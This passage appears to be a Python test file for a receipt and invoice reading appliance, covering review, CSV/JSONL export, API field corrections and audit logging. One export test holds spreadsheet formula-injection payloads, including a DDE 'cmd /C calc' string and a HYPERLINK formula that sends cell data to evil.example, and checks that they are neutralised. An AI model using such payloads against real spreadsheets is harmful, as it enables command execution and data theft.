    """Two receipts read by the real classic engine, both confident: the one with its
    total is accepted and its JSON has the fields; the one without waits for review,
    saying which field is missing, until a reviewer adds the total: its fields are read
    again, and written beside its other outputs."""
    from appliance.export import render
    from appliance.intake import SubmitOptions
    from appliance.raster.synthetic import render_text_page
    from appliance.store import queries
    from appliance.store import reviews
    from tests.ui.test_ui_handlers import make_appliance

    appliance = make_appliance(tmp_path, review={"review_below": 0.0, "accept_from": 0.0,
                                                 "second_opinion": False},
                               output={"upload_formats": ["fields.json"]})
    appliance.start()
    try:
        complete, short = tmp_path / "complete.png", tmp_path / "short.png"
        render_text_page([*RECEIPT_LINES, "TOTAL RM 15.70", "CASH 50.00"]).save(complete)
        render_text_page(RECEIPT_LINES).save(short)
        docs = [appliance.submit_path(path, SubmitOptions(source="api", doc_type="receipt"))
                for path in (complete, short)]
        deadline = time.monotonic() + 180
        while True:
            views = [queries.get_document(appliance.db, d.id) for d in docs]
            if views[0].is_final and views[1].pages[0].status == "review":
                break
            assert time.monotonic() < deadline, [v.status for v in views]
            time.sleep(0.3)
        document = json.loads(render(appliance.db, docs[0].id)["json"])
        [(_, waiting)] = queries.accepted_results(appliance.db, docs[1].id)

        # as the console does it: the correction finishes the document at once
        page_id = reviews.claim_review(appliance.db, "anna", 60)
        appliance.review.correct("anna", page_id, waiting.markdown + "\n\nTOTAL RM 9.90")
        written = tmp_path / "out" / "short.fields.json"
    finally:
        appliance.stop()
    values = {f["name"]: f["value"] for f in document["document"]["fields"]}
    assert values == {"company": "KEDAI MAJU JAYA SDN BHD",
                      "address": "NO 12 JALAN BESAR 43000 KAJANG SELANGOR",
                      "date": "2018-12-25", "total": "15.70", "paid": "50.00", "change": None}
    assert [f["name"] for f in document["pages"][0]["fields"]] == [
        "company", "date", "address", "total", "paid"]
    assert "missing_field: total" in waiting.reasons
    corrected = {f["name"]: f for f in json.loads(written.read_text())["fields"]}
    assert corrected["total"]["value"] == "9.90" and corrected["total"]["valid"] is True
    assert corrected["company"]["value"] == "KEDAI MAJU JAYA SDN BHD"



def test_a_batch_of_fields_exports_as_csv_and_json_lines(tmp_path, capsys):
    """`appliance fields export` on a real store: a row per invoice since the date asked,
    its fields' values and checks, the newest reading of each; a wrong date is refused."""
    import csv
    import io

    from appliance.cli import main
    from appliance.store import Database, transitions
    from appliance.store.models import Document, FieldSet

    config = tmp_path / "config.toml"
    config.write_text(f'[paths]\ndata_dir = "{tmp_path / "data"}"\n')
    db = Database(tmp_path / "data" / "appliance.db")
    settings_db = settings_from_dict({"paths": {"data_dir": str(tmp_path / "data")}},
                                     base_dir=tmp_path).paths.database
    assert settings_db == db.path  # the command opens the store this test fills
    reading = read_fields([page(*INVOICE_ROWS)], DEFAULTS["invoice"], no_history, today=TODAY)
    old, new = (transitions.submit_document(db, Document(
        name=name, sha256=name * 32, kind="png", size_bytes=1, source="api",
        doc_type="invoice", created_at=at), 1) for name, at in (("aa", 1e9), ("bb", 2e9)))
    for doc in (old, new):
        transitions.record_fields(db, FieldSet(document_id=doc.id, doc_type="invoice",
                                               fields=[], reasons=["stale"]))
        transitions.record_fields(db, FieldSet(document_id=doc.id, doc_type="invoice",
                                               fields=reading.fields, reasons=[]))

    assert main(["fields", "export", "--config", str(config), "--type", "invoice",
                 "--since", "2020-01-01", "--csv", "-"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["document_id"], r["valid"], r["gross"], r["gross_valid"], r["iban"])
            for r in rows] == [(new.id, "True", "1190.00", "True", "DE89370400440532013000")]

    out = tmp_path / "fields.jsonl"
    assert main(["fields", "export", "--config", str(config), "--type", "invoice",
                 "--jsonl", str(out)]) == 0
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["document_id"] for r in records] == [old.id, new.id]
    assert records[0]["fields"] == reading.fields

    assert main(["fields", "export", "--config", str(config), "--type", "invoice",
                 "--since", "yesterday", "--csv", "-"]) == 2
    assert "is not a date" in capsys.readouterr().err
    assert main(["fields", "export", "--config", str(config), "--type", "report",
                 "--csv", "-"]) == 2


def test_a_csv_export_opens_in_a_spreadsheet_without_running_a_formula(tmp_path, capsys):
    """What a scan, its file name or a person put in a field reaches the CSV as text: a
    cell that a spreadsheet would run as a formula starts with ' (OWASP's advice), a
    negative amount stays a number, and commas, quotes and line breaks are quoted."""
    import csv
    import io

    from appliance.cli import main
    from appliance.store import Database, transitions
    from appliance.store.models import Document, FieldSet

    config = tmp_path / "config.toml"
    config.write_text(f'[paths]\ndata_dir = "{tmp_path / "data"}"\n')
    db = Database(tmp_path / "data" / "appliance.db")
    buyer = "@SUM(1+1)*cmd|' /C calc'!A0"  # printed on the invoice, read as its buyer
    rows = [*INVOICE_ROWS[:7], (60, 255, buyer), *INVOICE_ROWS[8:]]
    reading = read_fields([page(*rows)], DEFAULTS["invoice"], no_history, today=TODAY)
    typed = {"number": "-2+3+cmd|' /C calc'!A0", "seller": "\t=1+1", "currency": "\r=1+1",
             "iban": '+1, "quoted"\nnext line', "net": "-1000.00"}
    fields = [{**f, "value": typed.get(f["name"], f["value"])} for f in reading.fields]
    doc = transitions.submit_document(db, Document(
        name='=HYPERLINK("http://evil.example/?"&A1,"scan.png")', sha256="c" * 64, kind="png",
        size_bytes=1, source="api", doc_type="invoice"), 1)
    transitions.record_fields(db, FieldSet(document_id=doc.id, doc_type="invoice",
                                           fields=fields, reasons=[]))
    db.close()

    assert main(["fields", "export", "--config", str(config), "--type", "invoice",
                 "--csv", "-"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"scan.png")'
    assert row["buyer"] == "'" + buyer
    for name in ("number", "seller", "currency", "iban"):
        assert row[name] == "'" + typed[name], name
    assert row["net"] == "-1000.00" and row["gross"] == "1190.00"


def test_a_person_corrects_fields_through_the_api_checked_again_and_audited(tmp_path):
    """PUT /api/v1/documents/{id}/fields: with a key, the values are checked again (a
    wrong gross fails its sum), an empty one removes a field, the change is audited
    under the key's name; without a key, or for a field or document that does not
    exist, it is refused."""
    from fastapi.testclient import TestClient
    from sqlmodel import select

    from appliance.api import create_app
    from appliance.daemon import Appliance
    from appliance.security import ApiKeys
    from appliance.store import transitions
    from appliance.store.models import Document, Event, FieldSet
    from tests.conftest import make_settings

    ApiKeys(tmp_path / "keys.toml").add("tests")
    key = ApiKeys(tmp_path / "keys.toml").add("erp")
    appliance = Appliance(make_settings(tmp_path, auth={"api_keys_file": str(tmp_path / "keys.toml")}))
    try:
        db = appliance.db
        invoice, report, early = (transitions.submit_document(db, Document(
            name=f"{kind}.png", sha256=str(i) * 64, kind="png", size_bytes=1, source="api",
            doc_type=kind), 1) for i, kind in enumerate(("invoice", "report", "invoice")))
        reading = read_fields([page(*INVOICE_ROWS)], DEFAULTS["invoice"], no_history, today=TODAY)
        transitions.record_fields(db, FieldSet(document_id=invoice.id, doc_type="invoice",
                                               fields=reading.fields, reasons=[]))
        client = TestClient(create_app(appliance))
        url = f"/api/v1/documents/{invoice.id}/fields"

        assert client.put(url, json={"fields": {"gross": "1"}}).status_code == 401
        assert client.put(url, json={"fields": {"gross": "1"}},
                          headers={"X-API-Key": key + "x"}).status_code == 401
        headers = {"X-API-Key": key}
        wrong = client.put(url, json={"fields": {"gross": "1.910,00", "iban": ""}},
                           headers=headers)
        assert wrong.status_code == 200, wrong.text
        fields = {f["name"]: f for f in wrong.json()["fields"]}
        assert fields["gross"]["value"] == "1910.00" and fields["gross"]["valid"] is False
        assert fields["gross"]["corrected_by"] == "erp" and fields["iban"]["value"] is None
        assert "field_invalid: gross: gross 1910.00 != net 1000.00 + tax 190.00" \
            in wrong.json()["reasons"]
        assert fields["net"]["corrected_by"] is None and fields["net"]["evidence"]

        right = client.put(url, json={"fields": {"gross": "1.190,00"}}, headers=headers).json()
        assert right["reasons"] == [] and queries_latest(db, invoice.id).actor == "erp"

        refused = {
            "unknown field": client.put(url, json={"fields": {"colour": "red"}}, headers=headers),
            "no fields": client.put(f"/api/v1/documents/{report.id}/fields",
                                    json={"fields": {"x": "1"}}, headers=headers),
            "not read yet": client.put(f"/api/v1/documents/{early.id}/fields",
                                       json={"fields": {"gross": "1"}}, headers=headers),
            "no document": client.put("/api/v1/documents/nope/fields",
                                      json={"fields": {"gross": "1"}}, headers=headers),
        }
        assert {why: r.status_code for why, r in refused.items()} == {
            "unknown field": 409, "no fields": 409, "not read yet": 409, "no document": 404}
        with db.read() as session:
            audited = session.exec(select(Event).where(Event.kind == "fields_corrected")
                                   .order_by(Event.id)).all()
        assert [(e.actor, e.detail["changes"]) for e in audited] == [
            ("erp", {"gross": ["1.190,00 EUR", "1.910,00"], "iban": [
                "DE89 3704 0044 0532 0130 00", None]}),
            ("erp", {"gross": ["1.910,00", "1.190,00"]})]
    finally:
        appliance.db.close()


def queries_latest(db, document_id):
    from appliance.store import queries

    return queries.latest_fields(db, document_id)


def test_a_field_correction_and_a_delete_of_its_document_never_overlap(tmp_path):
    """The correction re-exports the document; a delete meanwhile waits for it, so that
    no output is written after the delete removed them (the correction once ran
    outside the lock that the finishing steps and the delete share)."""
    import threading

    from appliance.daemon import Appliance
    from appliance.store import transitions
    from appliance.store.models import Document, FieldSet
    from tests.conftest import make_settings

    appliance = Appliance(make_settings(tmp_path))
    try:
        db = appliance.db
        invoice = transitions.submit_document(db, Document(
            name="invoice.png", sha256="1" * 64, kind="png", size_bytes=1, source="api",
            doc_type="invoice"), 1)
        reading = read_fields([page(*INVOICE_ROWS)], DEFAULTS["invoice"], no_history, today=TODAY)
        transitions.record_fields(db, FieldSet(document_id=invoice.id, doc_type="invoice",
                                               fields=reading.fields, reasons=[]))
        transitions.mark_exported(db, invoice.id, [])
        exporting, go_on = threading.Event(), threading.Event()

        def slow_export(document_id):  # the moment the correction writes its outputs
            exporting.set()
            go_on.wait(30)

        appliance.exporter.export = slow_export
        correcting = threading.Thread(target=appliance.correct_fields,
                                      args=(invoice.id, {"gross": "1.190,00"}, "erp"))
        correcting.start()
        assert exporting.wait(30)
        deleting = threading.Thread(target=appliance.delete, args=(invoice.id, "admin"))
        deleting.start()
        deleting.join(0.5)
        assert deleting.is_alive()  # it waits for the correction's export
        go_on.set()
        correcting.join(30)
        deleting.join(30)
        assert queries_latest(db, invoice.id) is None  # then it deleted the document
    finally:
        appliance.db.close()


def test_each_field_says_why_it_passed_in_its_checks_own_words():
    fields = by_name(read_fields([RECEIPT], DEFAULTS["receipt"], no_history, today=TODAY))
    assert ("logic", True, "total 15.70 = paid 50.00 - change 34.30") in said(fields["total"])
    assert said(fields["date"]) == [("format", True, "2018-12-25 is a real date"),
                                    ("logic", True, "2018-12-25 is not in the future")]
    assert said(fields["address"]) == [("format", True, "no check applies to this field")]
    assert said(fields["company"]) == [
        ("format", True, "no check applies to this field"),
        ("business", True, "read from a line of words, confidence 0.67")]
    # the UI translates a check by its code and values
    paid = next(c for c in fields["total"]["checks"] if c["code"] == "paid_ok")
    assert paid["values"] == {"total": "15.70", "owed": "15.70", "paid": "50.00",
                              "change": "34.30"}


@pytest.mark.parametrize("head, confidence", [("RSK", 0.62), ("RSK", 0.85)])
def test_a_name_at_the_head_read_from_a_scribble_or_a_stamp_does_not_pass(head, confidence):
    reading = read_fields([page((200, 20, head, confidence), (60, 60, "Date: 25/12/2018"),
                                (60, 300, "TOTAL"), (500, 300, "9.00"))],
                          DEFAULTS["receipt"], no_history, today=TODAY)
    company = by_name(reading)["company"]
    assert company["value"] == head and company["valid"] is False
    assert any(reason.startswith("field_invalid: company: read from a line that is no name")
               for reason in reading.reasons)


@pytest.mark.parametrize("head, confidence", [("BHP", 0.95), ("KEDAI MAJU", 0.6),
                                              ("永辉超市", 0.9)])
def test_a_printed_name_passes_short_when_read_sure_long_when_not(head, confidence):
    reading = read_fields([page((200, 20, head, confidence), (60, 60, "Date: 25/12/2018"),
                                (60, 300, "TOTAL"), (500, 300, "9.00"))],
                          DEFAULTS["receipt"], no_history, today=TODAY)
    assert by_name(reading)["company"]["valid"] is True
